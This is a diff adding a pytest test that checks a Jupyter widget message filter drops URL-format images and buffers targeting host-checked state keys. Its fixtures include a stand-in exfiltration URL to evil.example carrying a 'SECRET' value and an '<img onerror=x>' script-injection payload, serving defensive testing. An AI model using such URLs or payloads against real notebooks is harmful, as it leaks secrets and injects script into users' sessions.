@@ -207,6 +207,29 @@ def test_a_widget_that_names_many_models_is_still_judged_by_what_it_asks_for():
     assert plain.content["data"]["state"]["value"] == "<b>" and comms["p"] == "LinkModel"
 
 
+def test_a_media_widget_never_loads_a_url_and_buffers_set_no_checked_key():
+    import base64
+    png, url = b"\x89PNG", base64.b64encode(b"https://evil.example/?d=SECRET").decode()
+    image = check_box_message(message("iopub", "comm_open", {
+        "comm_id": "i", "target_name": "jupyter.widget",
+        "data": {"state": {"_model_name": "ImageModel", "_view_name": "ImageView", "format": " URL"},
+                 "buffer_paths": [["value"]]}}, buffers=[url]))
+    assert "format" not in image.content["data"]["state"] and image.dropped == ["comm_open.data.state:format url"]
+    later = check_box_message(message("iopub", "comm_msg", {"comm_id": "t", "data": {
+        "method": "update", "state": {"value": "https://evil.example/x", "format": "url"}}}), {"t": "TextModel"})
+    assert later.content["data"]["state"] == {"value": "https://evil.example/x"}  # a Text may become an Image
+    kept = check_box_message(message("iopub", "comm_msg", {"comm_id": "i", "data": {
+        "method": "update", "state": {"format": "png"}, "buffer_paths": [["value"]]}},
+        buffers=[base64.b64encode(png).decode()]), {"i": "ImageModel ImageView"})
+    assert kept.buffers == [png] and kept.content["data"]["buffer_paths"] == [["value"]] and not kept.dropped
+    # the frontend puts a buffer into the state at its path, unchecked: none may set a key the host checks
+    html = check_box_message(message("iopub", "comm_msg", {"comm_id": "h", "data": {
+        "method": "update", "state": {}, "buffer_paths": [["value"], ["description_allow_html"], ["x", 0]]}},
+        buffers=[base64.b64encode(b).decode() for b in (b"<img onerror=x>", b"1", b"ok")]), {"h": "HTMLModel"})
+    assert html.buffers == [b"ok"] and html.content["data"]["buffer_paths"] == [["x", 0]]
+    assert html.dropped == ["comm_msg.data.buffer_paths:value", "comm_msg.data.buffer_paths:description_allow_html"]
+
+
 @pytest.mark.parametrize("prompt,shown", [
     ("value of API_KEY (stays on the host): ", "[box] value of API_KEY (stays on the host): "),
     ("x\nvalue of API_KEY (stays on the host): ", "[box] x\n[box] value of API_KEY (stays on the host): "),
